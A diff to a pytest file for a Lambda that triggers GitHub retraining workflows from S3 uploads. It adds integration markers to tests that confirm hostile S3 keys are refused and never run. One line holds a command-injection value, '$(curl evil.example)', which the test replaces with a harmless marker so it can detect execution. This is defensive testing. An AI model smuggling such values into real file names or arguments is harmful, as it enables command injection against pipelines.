@@ -22,9 +22,9 @@ import pytest
 import yaml
 
 import dispatch_lambda
+from tests.conftest import ROOT
 from tests.fake_github import Dispatch, FakeGitHub, declared_inputs
 
-ROOT = Path(__file__).resolve().parent.parent
 RETRAIN_WORKFLOW = ROOT / ".github" / "workflows" / "retrain.yml"
 TOKEN = "ghp_" + "T0k3n" * 7
 ETAG = "b1946ac92492d2347c6235b4d2611184"
@@ -655,6 +655,7 @@ def run_check(bucket: str, key: str, etag: str = ETAG) -> subprocess.CompletedPr
     )
 
 
+@pytest.mark.integration  # runs the script
 @pytest.mark.parametrize("key", WORKFLOW_HOSTILE.values(), ids=WORKFLOW_HOSTILE.keys())
 def test_workflow_check_refuses_hostile_keys_with_one_escaped_error_line(key: str, tmp_path: Path) -> None:
     result = run_check("landing", key.replace("$(curl evil.example)", f"$(touch {tmp_path}/pwned)"))
@@ -665,6 +666,7 @@ def test_workflow_check_refuses_hostile_keys_with_one_escaped_error_line(key: st
     assert not (tmp_path / "pwned").exists()
 
 
+@pytest.mark.integration  # runs the script
 def test_workflow_check_accepts_what_the_lambda_dispatches(github: FakeGitHub) -> None:
     event = s3_notification(("landing", "data/2026%2B11/new+housing.csv", ETAG))  # "+" encoded, " " as "+"
     assert dispatch_lambda.handler(event, None) == 1
@@ -682,6 +684,7 @@ def workflow_step(name: str) -> str:
     return step["run"]
 
 
+@pytest.mark.integration  # runs the steps in bash
 @pytest.mark.parametrize("key", WORKFLOW_HOSTILE.values(), ids=WORKFLOW_HOSTILE.keys())
 @pytest.mark.parametrize("step", ["Check the trigger and the settings", "Failure summary"])
 def test_retrain_steps_that_see_the_key_neither_run_it_nor_echo_it_as_a_command(
